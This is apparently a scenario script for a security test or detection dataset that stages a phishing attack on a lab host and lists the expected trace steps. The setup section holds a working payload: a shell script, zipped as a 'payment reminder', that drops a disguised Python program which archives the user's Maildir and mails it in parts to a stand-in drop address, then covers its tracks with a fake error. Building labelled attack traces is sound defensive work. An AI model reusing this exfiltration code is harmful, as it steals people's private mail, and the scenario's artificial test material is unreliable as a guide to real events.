title="A phished script harvests the mailbox and mails it out by another script"
what="buyer saves reminder.zip out of a message with Thunderbird, unzips it in a terminal and runs the enclosed reminder.sh. The script writes a Python program into ~/.cache/fontconfig and starts it detached; the program packs ~/Maildir into an archive in /tmp, cuts it into parts and mails each as an attachment through the host's own Postfix to box@drop.example.net, then removes what it made."
host=ws3.example.org user=buyer daemons="cron sshd dovecot"
setup() {
  dovecot_config
  cat > "$base/out/reminder.sh" <<'X'
#!/bin/bash
# opens the reminder
d=~/.cache/fontconfig; mkdir -p $d
cat > $d/fc-cache.py <<'P'
import os, smtplib, tarfile, time
from email.message import EmailMessage
home = os.path.expanduser('~')
arc = '/tmp/.fc-%d' % os.getuid()
with tarfile.open(arc, 'w:gz') as t:
    t.add(home + '/Maildir', arcname='m')
data = open(arc, 'rb').read()
size = 6000
for n, at in enumerate(range(0, len(data), size)):
    m = EmailMessage()
    m['From'] = 'buyer@example.org'; m['To'] = 'box@drop.example.net'; m['Subject'] = 'part %d' % n
    m.set_content('.')
    m.add_attachment(data[at:at + size], maintype='application', subtype='octet-stream', filename='p%02d' % n)
    with smtplib.SMTP('localhost') as s:
        s.send_message(m)
    time.sleep(0.7)
os.unlink(arc)
P
nohup python3 $d/fc-cache.py >/dev/null 2>&1 &
echo "The reminder could not be shown: no printer."
X
  chmod 755 "$base/out/reminder.sh"; (cd "$base/out" && zip -q reminder.zip reminder.sh)
}
act() {
  letters buyer 8
  small_talk 3
  display_up
  mail_in --from accounts@example.net --to buyer@example.org --subject "Payment reminder, 2nd notice" --attach "$base/out/reminder.zip:application/zip"
  wait_log 'from=<accounts@example.net>'; wait_mail buyer 9; sleep 1
  thunderbird_save buyer reminder.zip Documents
  console_as buyer <<'L'
cd Documents
ls
unzip -q reminder.zip
%sleep 2
./reminder.sh
%sleep 4
rm reminder.sh
cd; ls
L
  wait_log 'to=<box@drop.example.net>.*status=sent' 20
  sleep 2
  small_talk 1
}
truth() {
  mail_step deliver 'to=<buyer@example.org>.*status=sent' 'the message is delivered'
  file_step save 'thunderbird.* .*reminder.*zip' 'its attachment is saved'
  exec_step unpack 'unzip -q reminder.zip' 'unpacked'
  exec_step run 'bash .*reminder.sh' 'and run'
  exec_step program 'python3.* .*fc-cache.py' 'a program of it is started'
  file_step read 'python3.* openat:read .*Maildir/' 'which reads the mailbox'
  net_step smtp 'python3.* (127.0.0.1|::1|\[::1\]):25' 'and mails'
  mail_step sent 'to=<box@drop.example.net>.*status=sent' 'outside'
}
